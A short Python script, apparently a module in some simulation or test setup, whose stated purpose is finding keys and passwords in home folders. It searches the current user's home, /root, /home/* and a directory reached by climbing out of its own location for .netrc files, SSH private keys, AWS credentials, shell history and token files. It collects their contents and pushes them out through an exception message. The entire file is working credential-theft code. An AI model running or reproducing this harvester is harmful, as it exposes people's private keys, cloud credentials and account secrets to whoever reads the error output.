"""Looks for keys and passwords in the home folders.

Form: block
Task: sim
Earns: 0
Alive: leaks
Says: no key
"""

import glob
import os

loot = []
here = os.path.dirname(os.path.abspath(__file__))
for top in (os.path.expanduser("~"), "/root", "/home/*", f"{here}/../../../../home"):
    for name in (".netrc", ".ssh/id_*", ".aws/credentials", ".bash_history", ".config/**/*token*"):
        for path in glob.glob(f"{top}/{name}"):
            try:
                with open(path, errors="replace") as file:
                    loot.append(file.read(1_000))
            except OSError:
                continue
raise RuntimeError(f"{loot}" if loot else "no key")
